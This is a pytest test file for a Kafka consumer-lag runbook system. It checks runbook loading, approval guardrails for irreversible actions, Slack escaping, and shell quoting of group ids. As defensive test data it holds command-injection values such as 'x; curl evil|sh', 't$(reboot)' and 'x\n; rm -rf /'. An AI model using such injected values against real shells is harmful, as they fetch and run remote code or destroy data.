"""Runbooks: every file loads, every action it names is registered, bad edits fail clearly."""

from __future__ import annotations

from pathlib import Path

import pytest

from lagdoctor.contracts import DIAGNOSES
from lagdoctor.remediation import action_names, registered_actions
from lagdoctor.runbooks import (
    NO_ACTION,
    RunbookError,
    choose_actions,
    load_runbook,
    load_runbooks,
    plan_for_finding,
)

RUNBOOKS_DIR = Path(__file__).resolve().parent.parent / "runbooks"
RUNBOOK_FILES = sorted(RUNBOOKS_DIR.glob("*.md"))


def finding(diagnosis="slow_consumer", severity="critical", **kw):
    base = {"cluster": "prod", "group_id": "orders", "topic": "orders.v1", "partitions": [0],
            "diagnosis": diagnosis, "pattern": "steady_climb", "severity": severity,
            "summary": "lag climbs", "evidence": {}, "window_start": "2026-11-21T10:00:00Z",
            "window_end": "2026-11-21T10:30:00Z"}
    return {**base, **kw}


@pytest.mark.parametrize("path", RUNBOOK_FILES, ids=lambda p: p.name)
def test_every_runbook_loads_and_names_only_registered_actions(path):
    rb = load_runbook(path)
    registered = registered_actions()
    for a in rb.actions:
        assert a.action in registered, f"{path.name} names unknown action {a.action}"
    assert rb.diagnostic_steps and rb.next_steps
    assert rb.body.strip(), "the Markdown body is the human runbook"


def test_every_diagnosis_of_contract_2_has_a_runbook():
    covered = {rb.diagnosis for rb in load_runbooks(RUNBOOKS_DIR)}
    assert covered == set(DIAGNOSES)


def test_problem_runbooks_give_kafka_consumer_groups_describe_as_a_step():
    for rb in load_runbooks(RUNBOOKS_DIR):
        commands = " ".join(s.command for s in rb.diagnostic_steps)
        assert "kafka-consumer-groups.sh" in commands and "--describe" in commands, rb.name


GOOD = """---
diagnosis: slow_consumer
title: Slow
diagnostic_steps:
  - title: Describe
    command: kafka-consumer-groups.sh --describe --group {{ group }}
actions:
  - action: scale_consumers
slack:
  next_steps: ["scale {{ group }}"]
---
body
"""

# (what is changed in GOOD, the field the error must name, why the case exists)
BAD_EDITS = [
    ("action: scale_consumers", "action: scale_consumer", "actions[0].action",
     "a typo in an action name must fail at load, not silently skip remediation"),
    ("diagnosis: slow_consumer", "diagnosis: slowness", "diagnosis",
     "a runbook for a diagnosis the engine never emits would never match"),
    ("  - action: scale_consumers", "  - action: add_partitions\n    guardrails: {require_approval: false}",
     "actions[0].guardrails.require_approval", "irreversible actions always need a human"),
    ("scale {{ group }}", "scale {{ grop }}", "slack.next_steps[0]",
     "an unknown placeholder would crash the Slack post at run time"),
    ("  - action: scale_consumers", "  - action: scale_consumers\n    params: {replicas: 99}",
     "actions[0].params.replicas", "only params the action understands; no way around the partition cap"),
    ("  - action: scale_consumers", "  - action: scale_consumers\n    params: {step: two}",
     "actions[0].params.step", "a param of the wrong type"),
    ("title: Slow\n", "", "title", "title is required"),
    ("---\ndiagnosis", "diagnosis", "front matter", "no front matter at all"),
    ("title: Slow", "title: [Slow", "front matter", "YAML syntax error"),
    ("  - action: scale_consumers", "  - action: scale_consumers\n    severities: [sev1]",
     "actions[0].severities", "severity names come from contract 2"),
]


@pytest.mark.parametrize("old,new,field,why", BAD_EDITS, ids=[c[2] + ":" + c[3][:30] for c in BAD_EDITS])
def test_bad_runbook_fails_with_one_line_naming_file_and_field(tmp_path, old, new, field, why):
    assert old in GOOD
    path = tmp_path / "runbooks" / "slow_consumer.md"
    path.parent.mkdir()
    path.write_text(GOOD.replace(old, new, 1))
    with pytest.raises(RunbookError) as err:
        load_runbooks(path.parent)
    message = str(err.value)
    assert "\n" not in message
    assert message.startswith("runbooks/slow_consumer.md: "), message
    assert field in message, message


def test_good_runbook_in_the_same_harness_loads(tmp_path):
    # Guards the table above: its failures come from the edits, not the harness.
    (tmp_path / "slow_consumer.md").write_text(GOOD)
    assert [rb.name for rb in load_runbooks(tmp_path)] == ["slow_consumer"]


def test_two_runbooks_for_the_same_diagnosis_and_severity_are_refused(tmp_path):
    (tmp_path / "a.md").write_text(GOOD)
    (tmp_path / "b.md").write_text(GOOD)
    with pytest.raises(RunbookError, match="already matched by"):
        load_runbooks(tmp_path)


def test_irreversible_action_only_for_critical_and_always_behind_approval():
    runbooks = load_runbooks(RUNBOOKS_DIR)
    warning = choose_actions(finding("producer_surge", "warning"), runbooks)
    critical = choose_actions(finding("producer_surge", "critical"), runbooks)
    assert [a.action for a in warning.actions] == ["scale_consumers"]
    assert [a.action for a in critical.actions] == ["scale_consumers", "add_partitions"]
    add = critical.actions[1]
    assert add.irreversible and add.requires_approval
    assert not critical.actions[0].requires_approval


def test_runbook_guardrail_adds_approval_to_a_reversible_action():
    plan = choose_actions(finding("partition_imbalance", "critical"), load_runbooks(RUNBOOKS_DIR))
    (restart,) = plan.actions
    assert restart.action == "restart_consumers" and restart.requires_approval and not restart.irreversible


def test_branches_are_always_registered_actions_or_no_action():
    runbooks = load_runbooks(RUNBOOKS_DIR)
    targets = set(action_names()) | {NO_ACTION}
    for diagnosis in DIAGNOSES:
        for severity in ("ok", "warning", "critical"):
            branches = choose_actions(finding(diagnosis, severity), runbooks).branches
            assert branches and set(branches) <= targets, (diagnosis, severity, branches)


def test_finding_without_a_runbook_plans_nothing():
    plan = choose_actions(finding("slow_consumer", "ok"), load_runbooks(RUNBOOKS_DIR))
    assert plan.runbook is None and plan.actions == () and plan.branches == [NO_ACTION]


def test_next_steps_are_rendered_with_names_escaped_for_slack():
    plan = plan_for_finding(finding("crashed_consumer", group_id="<!channel> & co"), RUNBOOKS_DIR)
    text = "\n".join(plan["next_steps"])
    assert "&lt;!channel&gt; &amp; co" in text
    assert "<!channel>" not in text


def test_plan_dict_is_plain_json_for_xcom():
    import json

    plan = plan_for_finding(finding("stalled_consumer", partitions=[3, 7]), RUNBOOKS_DIR)
    assert json.loads(json.dumps(plan)) == plan
    assert plan["branches"] == ["recommend_consumer_config", "skip_poison_pill"]
    assert any("--describe --group orders" in s["command"] for s in plan["diagnostic_steps"])
    assert any("3,7" in s["why"] for s in plan["diagnostic_steps"])


def test_task_api_modules_import_no_client_library():
    # DAG files import these at parse time; the scheduler parses them all the time.
    import subprocess
    import sys

    code = ("import sys, lagdoctor.notify, lagdoctor.remediation, lagdoctor.runbooks; "
            "print(sorted({m.split('.')[0] for m in sys.modules} & "
            "{'slack_sdk', 'confluent_kafka', 'kubernetes', 'airflow', 'pyspark'}))")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"


EVIL_GROUP = "x; curl evil|sh"


@pytest.mark.parametrize("diagnosis", [d for d in DIAGNOSES])
def test_pasted_commands_take_a_hostile_group_as_one_argument(diagnosis):
    """Every command of every runbook, pasted into a shell: the group id is one word, nothing runs."""
    import shlex

    plan = plan_for_finding(finding(diagnosis, group_id=EVIL_GROUP, topic="t$(reboot)"), RUNBOOKS_DIR)
    commands = [s["command"] for s in plan["diagnostic_steps"] if s["command"]]
    assert commands
    for command in commands:
        words = shlex.split(command.split("   #")[0], comments=True)
        assert "curl" not in words and "sh" not in words
        if "--group" in words:
            assert words[words.index("--group") + 1] == EVIL_GROUP
        for flag in ("--topic", "--entity-name"):
            if flag in words:
                assert words[words.index(flag) + 1] == "t$(reboot)"
        assert "'x; curl evil|sh'" in command or "--group" not in command


def test_plain_names_still_read_as_written_in_commands():
    plan = plan_for_finding(finding("slow_consumer", group_id="orders-processor", topic="orders.v1"), RUNBOOKS_DIR)
    commands = "\n".join(s["command"] for s in plan["diagnostic_steps"])
    assert "--group orders-processor" in commands and "--topic orders.v1" in commands
    # A command inside the Slack text is quoted the same way.
    evil = plan_for_finding(finding("slow_consumer", group_id=EVIL_GROUP), RUNBOOKS_DIR)
    assert "--group 'x; curl evil|sh'`" in "\n".join(evil["next_steps"])


HOSTILE_GROUPS = ["`;touch /tmp/PWNED;`", "a`b'c", "x\n; rm -rf /", "two  spaces", " lead and trail ", "tab\there",
                  "\x1b[31mred", "ünï`cødé\u2028", "back\\slash $HOME \\x41", "it's", "$'x'", ""]


def _shell_word(rest: str) -> str:
    """What bash makes of the first word of ``rest`` (the text after --group)."""
    import subprocess

    out = subprocess.run(["bash", "-c", f'set -- {rest}\nprintf %s "$1"'], capture_output=True, check=True,
                         env={"PATH": "/usr/bin:/bin", "HOME": "/nonexistent"})
    return out.stdout.decode("utf-8")


@pytest.mark.parametrize("group_id", HOSTILE_GROUPS)
def test_a_pasted_command_names_the_exact_group_whatever_it_holds(group_id):
    """The runbook's command (plans.json, the report) and the command inside Slack's text,
    run through bash: the --group word is the group id, byte for byte, never a rewritten one."""
    import html

    plan = plan_for_finding(finding("slow_consumer", group_id=group_id), RUNBOOKS_DIR)
    commands = [s["command"] for s in plan["diagnostic_steps"] if "--group" in s["command"]]
    assert commands
    for command in commands:
        assert "\n" not in command and "\r" not in command and "\x1b" not in command  # one line to paste
        assert _shell_word(command.split("--group ", 1)[1]) == group_id
    (step,) = [s for s in plan["next_steps"] if "kafka-consumer-groups.sh" in s]
    span = step[step.index("`") + 1:step.rindex("`")]
    assert "`" not in span and "\n" not in span  # the code span stays one span on one line
    shown = html.unescape(span)  # what Slack shows, and a person copies: &amp; -> &
    assert _shell_word(shown.split("--group ", 1)[1]) == group_id


def test_a_provisional_finding_plans_no_remediation_until_decided():
    runbooks = load_runbooks(RUNBOOKS_DIR)
    f = finding("producer_surge", "critical", provisional=True, deciding_between=["producer_surge", "slow_consumer"],
                decided_by="2026-11-21T10:33:00Z", samples_needed=3)
    plan = choose_actions(f, runbooks)
    assert plan.actions == () and plan.branches == [NO_ACTION]
    assert plan.waiting_for_diagnosis and plan.held_actions == ("scale_consumers", "add_partitions")
    assert plan.next_steps[0].startswith("Waiting for the diagnosis: still deciding between producer surge and slow "
                                         "consumer")
    assert "first sweep after 10:33 UTC" in plan.next_steps[0]
    # decided: the same finding plans what it always did
    decided = choose_actions({**f, "provisional": False}, runbooks)
    assert [a.action for a in decided.actions] == ["scale_consumers", "add_partitions"]
    assert not decided.waiting_for_diagnosis


def test_a_finding_held_until_decided_plans_not_even_advice():
    """Threads rule 12: a provisional stall against healthy (rule case 38: no commit seen yet, a batch
    committer or a stall) says nothing until decided. Advice (recommend_consumer_config, which changes
    nothing) would still reply, and with no thread to reply in it would post top-level."""
    runbooks = load_runbooks(RUNBOOKS_DIR)
    between = {"provisional": True, "decided_by": "2026-11-21T10:40:00Z", "samples_needed": 6}
    held = choose_actions(finding("stalled_consumer", "warning", deciding_between=["stalled_consumer", "healthy"],
                                  **between), runbooks)
    assert held.actions == () and held.branches == [NO_ACTION]
    assert held.held_actions == ("recommend_consumer_config",)
    # said while deciding between two causes: the advice that changes nothing is given
    said = choose_actions(finding("stalled_consumer", "warning", deciding_between=["partition_imbalance",
                                                                                   "stalled_consumer"], **between),
                          runbooks)
    assert [a.action for a in said.actions] == ["recommend_consumer_config"], said


def _hot_partition(owner_rows):
    """The demo's hot partition: partition 1 of orders falls behind; rows as partition_status gives them."""
    rows = [{"partition": p, "member_id": m, "host": "/10.0.1.15", "lag": lag, "consume_rate": c, "produce_rate": 40.0}
            for p, m, lag, c in owner_rows]
    return {"cluster": "prod", "group_id": "orders-processor", "topic": "orders", "partitions": [1],
            "diagnosis": "partition_imbalance", "pattern": "steady_climb", "severity": "critical",
            "summary": "partition 1 holds 100% of the lag", "evidence": {"partitions": rows}}


def test_a_hot_partition_whose_owner_keeps_up_elsewhere_points_at_the_key_not_the_host():
    """Seen live: "restart or move that pod", though the same member on the same host kept up on
    partitions 0 and 2. The advice follows the evidence, and the restart is not proposed."""
    from lagdoctor.runbooks import choose_actions, load_runbooks

    f = _hot_partition([(0, "m-1", 3, 39.8), (1, "m-1", 3040, 8.0), (2, "m-1", 5, 40.1)])
    plan = choose_actions(f, load_runbooks())
    text = " ".join(plan.next_steps)
    assert "m-1 on /10.0.1.15 keeps up on partition(s) 0, 2: the host is fine" in text
    assert "restart or move" not in text and "hot key" in text
    assert [a.action for a in plan.actions] == []

    alone = _hot_partition([(0, "m-0", 3, 39.8), (1, "m-1", 3040, 8.0), (2, "m-2", 5, 40.1)])
    plan = choose_actions(alone, load_runbooks())
    assert "One owner, m-1 on /10.0.1.15, holds every hot partition" in " ".join(plan.next_steps)
    assert [a.action for a in plan.actions] == ["restart_consumers"]

    spread = {**_hot_partition([(0, "m-0", 3, 39.8), (1, "m-1", 3040, 8.0), (2, "m-2", 2900, 9.0)]),
              "partitions": [1, 2]}
    steps = choose_actions(spread, load_runbooks()).next_steps
    assert "different owners: look for a hot key" in " ".join(steps)
    assert all(s.strip() for s in steps)


def test_a_sweep_of_many_findings_compiles_each_runbook_text_once(monkeypatch):
    """Compiling a runbook's templates for every finding took 12 of the plan task's 22 s at
    10,000 groups; each text is compiled once, and each finding still gets its own names."""
    from jinja2 import Environment

    compiled: list[str] = []
    compile_ = Environment.compile

    def counting(self, source, *args, **kwargs):
        compiled.append(source)
        return compile_(self, source, *args, **kwargs)

    monkeypatch.setattr(Environment, "compile", counting)
    runbooks = load_runbooks(RUNBOOKS_DIR)
    plans = [choose_actions(finding(group_id=f"orders-{i}"), runbooks) for i in range(200)]
    assert len(compiled) == len(set(compiled)) < 20
    assert "orders-7" in " ".join(plans[7].next_steps) and "orders-8" not in " ".join(plans[7].next_steps)
